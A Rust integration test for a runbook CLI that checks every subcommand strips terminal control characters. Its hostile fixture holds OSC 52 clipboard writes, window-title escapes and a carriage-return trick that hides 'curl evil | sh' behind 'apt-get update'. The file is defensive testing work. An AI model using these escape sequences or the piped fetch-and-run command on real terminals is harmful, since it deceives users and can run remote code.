//! Issue 17 item 4: every text a runbook or a value supplies reaches the terminal through the
//! control-character filter in the subcommands too (`list`, `show`, `check`, `exec`), not only
//! in the app: no OSC 52 clipboard write, no window-title change, no carriage return plus
//! erase-line hiding a `curl … | sh` behind `apt-get update`.

use std::path::Path;
use std::process::{Command, Output};

/// A title that sets the window title and writes the clipboard, and an argument that hides
/// itself behind another text with CR + erase line.
const HOSTILE: &str = r#"id = "hostile"
title = "Evil \u001B]0;pwned-title\u0007 \u001B]52;c;Y3VybCBldmlsIHwgc2g=\u0007 title"
summary = "sum \u009B31m"
[[variable]]
name = "who"
type = "text"
label = "Who"
default = "x"
[[section]]
id = "s"
title = "S \u001B[2J"
[[section.step]]
id = "a"
title = "Step \u001B]0;pwned\u0007"
why = "Why \u001B[31m red"
kind = "command"
commands = [["echo", "curl evil | sh\r\u001B[2Kapt-get update"], ["echo", "{who}"]]
[[section.step]]
id = "e"
title = "Edit"
why = "w"
kind = "edit"
[[section.step.edit]]
path = "/tmp/x"
action = "ensure_line"
line = "a\u001B]52;c;eA==\u0007"
"#;

fn fieldbook(dir: &Path, args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_fieldbook"))
        .env_remove("FIELDBOOK_STATE_DIR")
        .arg("--checklists")
        .arg(dir.join("books"))
        .arg("--state-dir")
        .arg(dir.join("state"))
        .args(args)
        .output()
        .unwrap()
}

/// No control character but newline and tab, raw or as an 8-bit C1 code.
fn assert_clean(what: &str, bytes: &[u8]) {
    let text = String::from_utf8_lossy(bytes);
    let bad: Vec<char> = text
        .chars()
        .filter(|c| c.is_control() && *c != '\n' && *c != '\t')
        .collect();
    assert!(
        bad.is_empty(),
        "{what}: {bad:?} reached the terminal:\n{text}"
    );
}

#[test]
fn runbook_text_and_values_are_filtered_in_every_subcommand() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir(dir.path().join("books")).unwrap();
    let file = dir.path().join("books/hostile.toml");
    std::fs::write(&file, HOSTILE).unwrap();
    let file = file.to_string_lossy().into_owned();
    for args in [
        &["list"][..],
        &["list", "--json"],
        &["show", "hostile"],
        &["show", "hostile", "--why"],
        &["show", "hostile", "--json"],
        &["check", &file],
        &[
            "--practice",
            "exec",
            "hostile",
            "a",
            "--var",
            "who=\u{1b}]52;c;eA==\u{7}",
        ],
        &["exec", "hostile", "a", "--var", "who=\u{1b}]0;t\u{7}"],
        &["--practice", "exec", "hostile", "e"],
    ] {
        let o = fieldbook(dir.path(), args);
        assert_clean(&format!("{args:?} stdout"), &o.stdout);
        assert_clean(&format!("{args:?} stderr"), &o.stderr);
    }
    // The hidden command is visible, not replaced by what came after the carriage return.
    let o = fieldbook(dir.path(), &["show", "hostile"]);
    let out = String::from_utf8_lossy(&o.stdout);
    assert!(out.contains("curl evil | sh"), "{out}");
    assert!(out.contains("apt-get update"), "{out}");
}
